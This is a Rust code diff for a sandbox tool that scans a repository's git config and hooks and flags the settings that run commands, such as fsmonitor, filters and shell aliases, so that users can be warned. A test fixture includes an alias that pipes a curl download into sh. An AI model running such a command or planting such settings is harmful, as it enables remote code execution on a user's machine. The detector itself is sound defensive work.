@@ -92,3 +92,161 @@ mod tests {
         assert!(paths.contains(&"/m/.git/worktrees/wt/gitdir".into()));
     }
 }
+
+/// A setting or hook of the repository that runs a command when the user's own git runs.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct GitRunsCommand {
+    /// The file it is in.
+    pub file: std::path::PathBuf,
+    /// `core.fsmonitor`, `alias.x`, `filter.lfs.process`, `hook pre-commit`, ...
+    pub what: String,
+    /// The configured value (empty for hooks).
+    pub value: String,
+}
+
+/// Keys (section, key) whose value git runs as a command; `*` matches any subsection.
+const COMMAND_KEYS: &[(&str, &str)] = &[
+    ("core", "hookspath"),
+    ("core", "fsmonitor"),
+    ("core", "sshcommand"),
+    ("core", "editor"),
+    ("core", "pager"),
+    ("core", "askpass"),
+    ("sequence", "editor"),
+    ("diff.*", "textconv"),
+    ("diff.*", "command"),
+    ("filter.*", "clean"),
+    ("filter.*", "smudge"),
+    ("filter.*", "process"),
+    ("merge.*", "driver"),
+    ("credential", "helper"),
+    ("credential.*", "helper"),
+    ("gpg", "program"),
+    ("include", "path"),
+    ("includeif.*", "path"),
+];
+
+/// What the repository's config and hooks will run when the user next types `git`
+/// outside the sandbox: kennel tells the user at launch.
+pub fn git_runs_commands(git: &GitDirs) -> Vec<GitRunsCommand> {
+    let mut found = Vec::new();
+    let mut configs = vec![git.common_dir.join("config")];
+    if git.git_dir != git.common_dir {
+        configs.push(git.git_dir.join("config.worktree"));
+    }
+    for file in configs {
+        if let Ok(text) = fs::read_to_string(&file) {
+            for (what, value) in command_settings(&text) {
+                found.push(GitRunsCommand {
+                    file: file.clone(),
+                    what,
+                    value,
+                });
+            }
+        }
+    }
+    let hooks = git.common_dir.join("hooks");
+    if let Ok(entries) = fs::read_dir(&hooks) {
+        let mut names: Vec<String> = entries
+            .flatten()
+            .map(|e| e.file_name().to_string_lossy().into_owned())
+            .filter(|n| !n.ends_with(".sample"))
+            .collect();
+        names.sort();
+        for name in names {
+            found.push(GitRunsCommand {
+                file: hooks.join(&name),
+                what: format!("hook {name}"),
+                value: String::new(),
+            });
+        }
+    }
+    found
+}
+
+/// Settings of a git config text that run commands: `(section.key, value)`.
+/// A small reader of git's format: `[section]`, `[section "sub"]`, `key = value`.
+pub(crate) fn command_settings(text: &str) -> Vec<(String, String)> {
+    let mut out = Vec::new();
+    let mut section = String::new();
+    let mut subsection: Option<String> = None;
+    for line in text.lines() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
+            continue;
+        }
+        if let Some(header) = line.strip_prefix('[').and_then(|l| l.split(']').next()) {
+            let mut parts = header.splitn(2, |c: char| c.is_whitespace());
+            section = parts.next().unwrap_or_default().to_ascii_lowercase();
+            subsection = parts.next().map(|s| s.trim().trim_matches('"').to_string());
+            // The old form `[section.sub]`.
+            if subsection.is_none() {
+                if let Some((s, sub)) = section.clone().split_once('.') {
+                    section = s.to_string();
+                    subsection = Some(sub.to_string());
+                }
+            }
+            continue;
+        }
+        let (key, value) = match line.split_once('=') {
+            Some((k, v)) => (k.trim().to_ascii_lowercase(), v.trim().to_string()),
+            None => (line.to_ascii_lowercase(), "true".to_string()),
+        };
+        let name = match &subsection {
+            Some(sub) => format!("{section}.{sub}.{key}"),
+            None => format!("{section}.{key}"),
+        };
+        let runs = COMMAND_KEYS.iter().any(|(sec, k)| {
+            *k == key
+                && match sec.strip_suffix(".*") {
+                    Some(s) => s == section && subsection.is_some(),
+                    None => *sec == section && subsection.is_none(),
+                }
+        }) || (section == "alias" && value.trim_start_matches('"').starts_with('!'));
+        if runs {
+            out.push((name, value));
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod config_tests {
+    use super::*;
+
+    #[test]
+    fn finds_settings_that_run_commands() {
+        let text = r#"
+[core]
+	repositoryformatversion = 0
+	fsmonitor = ./watch.sh
+	hooksPath = /tmp/hooks
+[alias]
+	st = status
+	boom = "!curl example.org | sh"
+[filter "lfs"]
+	process = git-lfs filter-process
+[remote "origin"]
+	url = x
+[include]
+	path = ../other.config
+"#;
+        let found: Vec<String> = command_settings(text).into_iter().map(|(k, _)| k).collect();
+        assert_eq!(
+            found,
+            vec![
+                "core.fsmonitor",
+                "core.hookspath",
+                "alias.boom",
+                "filter.lfs.process",
+                "include.path"
+            ]
+        );
+    }
+
+    #[test]
+    fn plain_config_runs_nothing() {
+        let text = "[core]\n\tbare = false\n[user]\n\tname = x\n[alias]\n\tco = checkout\n";
+        assert!(command_settings(text).is_empty());
+    }
+}
